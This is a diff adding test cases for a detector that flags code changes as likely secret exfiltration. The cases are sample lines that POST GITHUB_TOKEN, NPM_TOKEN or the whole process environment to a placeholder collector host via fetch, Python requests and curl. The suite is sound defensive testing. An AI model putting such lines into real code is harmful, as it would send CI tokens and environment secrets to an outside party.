@@ -29,6 +29,26 @@ test.each([
   expect(strengthsOf(detector, change(path, added))).toEqual(expected);
 });
 
+const post = (body: string) => `await fetch("https://${COLLECTOR}/x", {\n  method: "POST",\n  body: ${body},\n});`;
+
+test.each([
+  ["a pipeline's token", "test/a.test.js", post("process.env.GITHUB_TOKEN"), ["strong"]],
+  ["the whole environment", "test/a.test.js", post("JSON.stringify({ all: process.env })"), ["strong"]],
+  [
+    "a token on the same line",
+    "tests/test_a.py",
+    `requests.post("https://${COLLECTOR}/x", os.environ["NPM_TOKEN"])`,
+    ["strong"],
+  ],
+  ["a token in a shell script", "test/run.sh", `curl -d "$NPM_TOKEN" https://${COLLECTOR}/x`, ["strong"]],
+  ["a text of its own", "test/a.test.js", post('"hello"'), ["weak"]],
+  ["the address of its own service", "test/a.test.js", post("process.env.BASE_URL"), ["weak"]],
+  ["a sample in a text", "test/a.test.js", `check('fetch("https://${COLLECTOR}/x", process.env.NPM_TOKEN)')`, ["weak"]],
+  ["a sample in a fixture", "test/fixtures/a.js", post("process.env.GITHUB_TOKEN"), ["weak"]],
+] as const)("a test posts %s to a collector", (_, path, added, expected) => {
+  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
+});
+
 test("a host that the policy allows", () => {
   const commit = change("src/a.js", `fetch("https://${COLLECTOR}/x")`);
   expect(strengthsOf(detector, commit, { allowedHosts: [COLLECTOR] })).toEqual([]);
